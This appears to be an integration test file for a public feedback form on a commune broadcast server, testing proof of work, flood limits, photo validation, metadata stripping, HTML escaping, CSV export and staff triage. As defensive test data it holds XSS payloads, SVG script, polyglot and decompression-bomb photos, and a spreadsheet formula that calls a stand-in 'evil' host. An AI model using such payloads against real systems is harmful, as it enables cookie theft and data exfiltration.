/**
 * Citizens' feedback end to end on a real server, and its abuse cases: the proof of work, floods
 * from one address and from many, oversized and malformed photos (a JPEG bomb, polyglots, SVG with
 * script, garbage behind a JPEG signature), metadata stripped by ffmpeg's re-encoding, HTML typed
 * into every field escaped on the public page, the dashboard and in the CSV (formula cells too),
 * and the staff's triage: assign, answer (published, delivery pending without a relay), bulletin
 * draft in one step, close.
 */
import { execFile } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FeedbackRecord } from '../../../fleet-server/src/domain/model.js';
import { solveChallenge } from '../../../fleet-server/src/services/citizens/challenge.js';
import { type CitizensHarness, startCitizens } from './harness.js';

const run = promisify(execFile);
const U = '08/02509';
let c: CitizensHarness;
let photo: Buffer;

interface Sent {
  status: number;
  html: string;
  location: string | null;
  code: string | null;
  retryAfter: string | null;
}

async function challenge(unit = U): Promise<string> {
  const html = await (await fetch(`${c.h.server.url}/p/${unit}/feedback`)).text();
  return /name="pow" value="([^"]+)"/.exec(html)?.[1] as string;
}

async function send(
  fields: Record<string, string>,
  opts: {
    ip?: string;
    photo?: Buffer;
    photoType?: string;
    unit?: string;
    pow?: { token: string; nonce: string };
  } = {},
): Promise<Sent> {
  const unit = opts.unit ?? U;
  const token = opts.pow?.token ?? (await challenge(unit));
  const nonce = opts.pow?.nonce ?? solveChallenge(token);
  const fd = new FormData();
  fd.set('pow', token);
  fd.set('nonce', nonce);
  for (const [k, v] of Object.entries(fields)) fd.set(k, v);
  if (opts.photo)
    fd.set('photo', new Blob([opts.photo], { type: opts.photoType ?? 'image/jpeg' }), 'anh.jpg');
  const r = await fetch(`${c.h.server.url}/p/${unit}/feedback`, {
    method: 'POST',
    body: fd,
    redirect: 'manual',
    headers: { 'x-forwarded-for': opts.ip ?? '203.0.113.1' },
  });
  return {
    status: r.status,
    html: await r.text(),
    location: r.headers.get('location'),
    code: r.headers.get('x-loa-error'),
    retryAfter: r.headers.get('retry-after'),
  };
}

/** A JPEG with a comment segment (as phones leave EXIF/GPS) inserted after SOI. */
function withComment(jpeg: Buffer, text: string): Buffer {
  const body = Buffer.from(text, 'latin1');
  const seg = Buffer.alloc(4);
  seg.writeUInt16BE(0xfffe, 0);
  seg.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), seg, body, jpeg.subarray(2)]);
}

/** The same JPEG claiming to be 65000×65000 (its SOF0 dimensions patched): a decompression bomb. */
function bomb(jpeg: Buffer, side = 65000): Buffer {
  const b = Buffer.from(jpeg);
  for (let i = 2; i < b.length - 9; i++)
    if (b[i] === 0xff && (b[i + 1] === 0xc0 || b[i + 1] === 0xc2)) {
      b.writeUInt16BE(side, i + 5);
      b.writeUInt16BE(side, i + 7);
      return b;
    }
  throw new Error('no SOF');
}

beforeAll(async () => {
  c = await startCitizens({
    powBits: 8,
    feedback: { perAddressBurst: 3, perAddressEveryS: 3600, perUnitBurst: 12, perUnitEveryS: 3600 },
  });
  const file = join(c.h.dir, 'photo.jpg');
  await run('ffmpeg', [
    '-v',
    'error',
    '-f',
    'lavfi',
    '-i',
    'testsrc=size=2400x1800',
    '-frames:v',
    '1',
    '-y',
    file,
  ]);
  photo = withComment(await readFile(file), 'GPS 21.7,105.3 Samsung SM-A105 secret-owner');
}, 120_000);

afterAll(async () => {
  await c?.h.stop();
});

describe('submitting feedback', () => {
  let fb: FeedbackRecord;

  it('stores a submission with its photo re-encoded without metadata, and says when it will be answered', async () => {
    const r = await send(
      { topic: 'speaker', text: 'Loa ở thôn Đồng Mán bị rè từ hôm qua.', contact: '0912 345 678' },
      { photo, ip: '203.0.113.10' },
    );
    expect(r.status, r.html.slice(0, 300)).toBe(303);
    const id = new URL(r.location as string, c.h.server.url).searchParams.get('id') as string;
    const sent = await (await fetch(new URL(r.location as string, c.h.server.url))).text();
    expect(sent).toContain(id);
    fb = (await c.h.server.deps.store.feedback.get(id)) as FeedbackRecord;
    expect(fb).toMatchObject({ unit: U, topic: 'speaker', status: 'new', contact: '0912 345 678' });
    expect(fb.sender).not.toContain('203.0.113.10');
    const stored = await readFile(c.h.svc.blobs.path(fb.photo?.sha256 as string));
    expect(stored.subarray(0, 3).equals(Buffer.from([0xff, 0xd8, 0xff]))).toBe(true);
    expect(stored.toString('latin1')).not.toContain('secret-owner');
    expect(stored.toString('latin1')).not.toContain('GPS');
    const probe = await run('ffprobe', [
      '-v',
      'error',
      '-show_entries',
      'stream=width,height',
      '-of',
      'json',
      c.h.svc.blobs.path(fb.photo?.sha256 as string),
    ]);
    expect(JSON.parse(probe.stdout).streams[0]).toEqual({ width: 1600, height: 1200 });
  });

  it('refuses a missing or wrong proof of work, and a spent one', async () => {
    const token = await challenge();
    const bad = await send(
      { topic: 'question', text: 'Câu hỏi thử' },
      { pow: { token, nonce: '' }, ip: '198.51.100.1' },
    );
    expect(bad.status).toBe(400);
    expect(bad.code).toBe('POW_INVALID');
    const forged = await send(
      { topic: 'question', text: 'Câu hỏi thử' },
      { pow: { token: token.replace(/\.\d+\./, '.1.'), nonce: '0' }, ip: '198.51.100.1' },
    );
    expect(forged.code).toBe('POW_INVALID');
    const nonce = solveChallenge(token);
    expect(
      (await send({ topic: 'question', text: 'Câu hỏi một' }, { pow: { token, nonce }, ip: '198.51.100.1' }))
        .status,
    ).toBe(303);
    const again = await send(
      { topic: 'question', text: 'Câu hỏi hai' },
      { pow: { token, nonce }, ip: '198.51.100.1' },
    );
    expect(again.code).toBe('POW_REUSED');
    // a challenge of another commune is not accepted here
    const elsewhere = await challenge('08/02503');
    const moved = await send(
      { topic: 'question', text: 'Câu hỏi ba' },
      { pow: { token: elsewhere, nonce: solveChallenge(elsewhere) }, ip: '198.51.100.1' },
    );
    expect(moved.code).toBe('POW_INVALID');
  });

  it('limits a flood from one address, then from many addresses on one unit; other units still work', async () => {
    const before = await c.h.server.deps.store.feedback.count();
    const statuses: number[] = [];
    for (let i = 0; i < 5; i++)
      statuses.push((await send({ topic: 'other', text: `Thư rác số ${i}` }, { ip: '192.0.2.77' })).status);
    expect(statuses).toEqual([303, 303, 303, 429, 429]);
    const over = await send({ topic: 'other', text: 'Thư rác nữa' }, { ip: '192.0.2.77' });
    expect(over.code).toBe('FEEDBACK_RATE_LIMITED');
    expect(Number(over.retryAfter)).toBeGreaterThan(0);
    // many addresses: the unit's own cap holds (12 in all, some already used above)
    const many: number[] = [];
    for (let i = 0; i < 12; i++)
      many.push(
        (await send({ topic: 'other', text: `Thư rác phân tán ${i}` }, { ip: `192.0.2.${100 + i}` })).status,
      );
    expect(many).toContain(429);
    const stored = (await c.h.server.deps.store.feedback.count()) - before;
    expect(stored).toBeLessThanOrEqual(12);
    expect(
      (
        await send(
          { topic: 'question', text: 'Xã bên cạnh vẫn nhận' },
          { unit: '08/02503', ip: '192.0.2.200' },
        )
      ).status,
    ).toBe(303);
  });

  it('refuses oversized and malformed photos with a clear code, storing nothing', async () => {
    const U2 = '08/02506';
    const before = await c.h.server.deps.store.feedback.count();
    const text = { topic: 'complaint', text: 'Ảnh kèm theo' };
    let ip = 10;
    const nextIp = () => `203.0.113.${ip++}`;
    const big = Buffer.concat([photo, Buffer.alloc(7 * 1024 * 1024)]);
    const tooBig = await send(text, { unit: U2, photo: big, ip: nextIp() });
    expect(tooBig.status).toBe(413);
    const b = await send(text, { unit: U2, photo: bomb(photo), ip: nextIp() });
    expect([b.status, b.code]).toEqual([400, 'PHOTO_DIMENSIONS']);
    // 12000×12000 = 144 MP: within what the decoder would accept, past what a phone makes
    expect((await send(text, { unit: U2, photo: bomb(photo, 12000), ip: nextIp() })).code).toBe(
      'PHOTO_DIMENSIONS',
    );
    const htmlPoly = Buffer.concat([
      photo,
      Buffer.from('<html><script>alert(document.cookie)</script></html>'),
    ]);
    expect((await send(text, { unit: U2, photo: htmlPoly, ip: nextIp() })).code).toBe('PHOTO_POLYGLOT');
    const zipPoly = Buffer.concat([photo, Buffer.from('PK\u0005\u0006', 'latin1'), Buffer.alloc(18)]);
    expect((await send(text, { unit: U2, photo: zipPoly, ip: nextIp() })).code).toBe('PHOTO_POLYGLOT');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect((await send(text, { unit: U2, photo: svg, photoType: 'image/svg+xml', ip: nextIp() })).code).toBe(
      'PHOTO_TYPE',
    );
    const garbage = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(5000, 7)]);
    expect((await send(text, { unit: U2, photo: garbage, ip: nextIp() })).code).toBe('PHOTO_UNDECODABLE');
    expect(await c.h.server.deps.store.feedback.count()).toBe(before);
    // the form says why, in Vietnamese, and keeps what was typed
    const r = await send(
      { topic: 'complaint', text: 'Giữ nguyên nội dung' },
      { unit: U2, photo: svg, ip: nextIp() },
    );
    expect(r.html).toContain('Chỉ nhận ảnh JPEG, PNG hoặc WebP');
    expect(r.html).toContain('Giữ nguyên nội dung');
  });

  it('escapes HTML in every field on the public page, in the dashboard and neutralises formulas in CSV', async () => {
    const evil = '<script>alert("pwn")</script><img src=x onerror=alert(2)>';
    const r = await send(
      { topic: 'suggestion', text: `=HYPERLINK("http://evil/"&A1,"bấm") ${evil}`, contact: 'a@b.vn' },
      { unit: '08/02512', ip: '203.0.113.90' },
    );
    expect(r.status).toBe(303);
    const id = new URL(r.location as string, c.h.server.url).searchParams.get('id') as string;
    const auth = { authorization: `Bearer ${c.editor.token}` };
    const queue = await (await fetch(`${c.h.server.url}/ui/feedback`, { headers: auth })).text();
    expect(queue).not.toContain('<script>alert("pwn")');
    expect(queue).toContain('&lt;script&gt;alert(&quot;pwn&quot;)&lt;/script&gt;');
    const detail = await (await fetch(`${c.h.server.url}/ui/feedback/${id}`, { headers: auth })).text();
    expect(detail).not.toContain('<img src=x');
    expect(detail).toContain('&lt;img src=x onerror=alert(2)&gt;');
    const csv = await (
      await fetch(`${c.h.server.url}/ui/feedback.csv?unit=08/02512`, { headers: auth })
    ).text();
    const row = csv.split('\r\n').find((l) => l.startsWith(id)) as string;
    expect(row).toContain(`"'=HYPERLINK(""http://evil/""&A1`);
    expect(row).not.toMatch(/,=HYPERLINK/);
    // and an answer with HTML published on the public page is escaped there too
    const ans = await fetch(`${c.h.server.url}/ui/feedback/${id}/answer`, {
      method: 'POST',
      headers: { ...auth, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ answer: `Cảm ơn bạn ${evil}`, publish: '1' }),
      redirect: 'manual',
    });
    expect(ans.status).toBe(303);
    const page = await (await fetch(`${c.h.server.url}/p/08/02512`)).text();
    expect(page).toContain('Cảm ơn bạn &lt;script&gt;');
    expect(page).not.toContain('<script>alert("pwn")');
  });

  it('the unit staff triage it: assign with a due date, answer (published, delivery pending), bulletin draft, close', async () => {
    const auth = { authorization: `Bearer ${c.operator.token}` };
    const form = (path: string, body: Record<string, string>) =>
      fetch(`${c.h.server.url}${path}`, {
        method: 'POST',
        headers: { ...auth, 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams(body),
        redirect: 'manual',
      });
    // an operator of another commune does not see it
    const outsider = await c.h.user('vanhanh.xakhac', 'operator', ['08/02503']);
    expect(
      (
        await fetch(`${c.h.server.url}/ui/feedback/${fb.id}`, {
          headers: { authorization: `Bearer ${outsider.token}` },
        })
      ).status,
    ).toBe(404);
    const queue = await (await fetch(`${c.h.server.url}/ui/feedback?unit=${U}`, { headers: auth })).text();
    expect(queue).toContain(fb.id);
    expect(
      (await form(`/ui/feedback/${fb.id}/assign`, { to: c.operator.id, due: '2030-01-15' })).status,
    ).toBe(303);
    let rec = (await c.h.server.deps.store.feedback.get(fb.id)) as FeedbackRecord;
    expect(rec).toMatchObject({ status: 'assigned', assignedTo: c.operator.id });
    expect(rec.dueAt.startsWith('2030-01-15')).toBe(true);
    expect(
      (
        await form(`/ui/feedback/${fb.id}/answer`, {
          answer: 'Xã đã cử kỹ thuật viên thay loa ngày mai.',
          publish: '1',
          notify: '1',
        })
      ).status,
    ).toBe(303);
    rec = (await c.h.server.deps.store.feedback.get(fb.id)) as FeedbackRecord;
    expect(rec).toMatchObject({ status: 'answered', answerPublic: true, delivery: 'pending' });
    expect(await (await fetch(`${c.h.server.url}/p/${U}`)).text()).toContain(
      'Xã đã cử kỹ thuật viên thay loa ngày mai.',
    );
    // one step from the answer to a programme draft (an editor composes)
    const ed = { authorization: `Bearer ${c.editor.token}` };
    const made = await fetch(`${c.h.server.url}/ui/feedback/${fb.id}/bulletin`, {
      method: 'POST',
      headers: ed,
      redirect: 'manual',
    });
    expect(made.status).toBe(303);
    rec = (await c.h.server.deps.store.feedback.get(fb.id)) as FeedbackRecord;
    const draft = await c.h.server.deps.store.bundles.get(rec.bundleId as string);
    expect(draft?.state).toBe('draft');
    expect(draft?.manifest.items[0]?.text).toContain('Xã đã cử kỹ thuật viên');
    expect(draft?.manifest.targets).toEqual([{ unit: U }]);
    expect((await form(`/ui/feedback/${fb.id}/close`, {})).status).toBe(303);
    // closed stays closed
    const reopen = await form(`/ui/feedback/${fb.id}/assign`, { to: c.operator.id });
    expect(reopen.status).toBe(400);
    expect((await c.h.server.deps.store.feedback.get(fb.id))?.status).toBe('closed');
    const audit = await c.h.server.deps.store.audit.query({ action: 'feedback.' });
    expect(audit.map((a) => a.action)).toEqual(
      expect.arrayContaining(['feedback.assign', 'feedback.answer', 'feedback.close']),
    );
  });

  it('counts feedback by topic, status and unit with time to answer (API and service)', async () => {
    const r = await c.h.api<{
      total: number;
      byStatus: Record<string, number>;
      byUnit: Record<string, number>;
      answered: number;
    }>(c.editor, 'GET', '/api/v1/feedback/stats');
    expect(r.status).toBe(200);
    const all = await c.h.server.deps.store.feedback.list();
    expect(r.body.total).toBe(all.length);
    expect(r.body.byStatus.closed).toBe(1);
    expect(r.body.byUnit[U]).toBe(all.filter((f) => f.unit === U).length);
    expect(r.body.answered).toBe(2);
    const mine = await c.citizens().services.feedback.counts(['08/02509']);
    expect(mine.total).toBe(all.filter((f) => f.unit === U).length);
    expect(mine.answerHours.median).not.toBeNull();
  });
});
